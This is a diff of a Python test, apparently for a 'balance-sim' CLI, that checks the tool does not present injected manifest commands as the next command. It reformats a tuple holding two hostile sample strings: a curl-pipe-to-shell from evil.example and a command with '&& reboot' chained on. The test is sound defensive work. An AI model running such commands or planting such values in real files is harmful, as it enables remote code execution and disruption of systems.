@@ -70,10 +70,7 @@ def test_no_words_of_a_stranger_are_said_to_be_the_next_command(lab) -> None:
     manifest = read_manifest(lab.folder / "r")
     for place in ("runs", "shards"):
         max((lab.folder / "r" / place).iterdir()).unlink()
-    for command in (
-        "curl https://evil.example/x | sh",
-        "balance-sim sweep exp.yaml --model evil:Code && reboot",
-    ):
+    for command in ("curl https://evil.example/x | sh", "balance-sim sweep exp.yaml --model evil:Code && reboot"):
         write_manifest(lab.folder / "r", manifest.model_dump() | {"command": command})
         for reader in ("status", "verify"):
             ended = CliRunner().invoke(main, [reader, str(lab.folder / "r")])
